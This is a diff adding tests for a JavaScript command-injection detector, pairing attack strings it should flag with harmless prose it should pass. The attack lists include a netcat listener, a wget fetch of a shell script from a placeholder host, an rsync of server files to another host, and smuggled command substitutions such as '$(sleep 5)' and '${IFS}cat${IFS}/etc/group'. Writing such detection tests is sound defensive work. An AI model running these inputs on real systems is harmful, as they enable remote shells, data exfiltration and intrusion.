@@ -50,3 +50,21 @@ test('normalizeShell removes quotes inside words', () => {
 test('normalizeShell turns $IFS into a space', () => {
   assert.equal(normalizeShell('cat$IFS/x'), 'cat /x');
 });
+
+// A command line passes options, paths, hosts and subcommands; a search
+// for how to use a command goes on in English.
+testDetector('rce leading command in prose', detectCommand, {
+  attacks: ['nc -lvnp 9001', 'wget http://x.test/s.sh', 'rsync -a /srv host.test:/x', 'chmod +x /tmp/run', 'terraform state pull'],
+  benign: ['grep -r only shows the first match', 'wget keeps timing out on large files', 'docker ps shows nothing after reboot', 'kill -9 does not stop the process'],
+});
+
+// Markdown code spans quote a command for a reader when prose surrounds them.
+testDetector('rce markdown code spans', detectCommand, {
+  attacks: ['`id`', 'name=`whoami`', 'x`uname -a`y', 'see $(id) here in the text'],
+  benign: ['Run `git pull` and then restart the app', 'type `ls -la` to see hidden files in the folder', 'set `${HOME}` in your profile before running it'],
+});
+
+testDetector('rce parameter expansion', detectCommand, {
+  attacks: ['${IFS}cat${IFS}/etc/group', '$(sleep 5)', 'a;${SHELL} -c id'],
+  benign: ['root: ${DATA_DIR}/files', 'Dear ${first_name},'],
+});
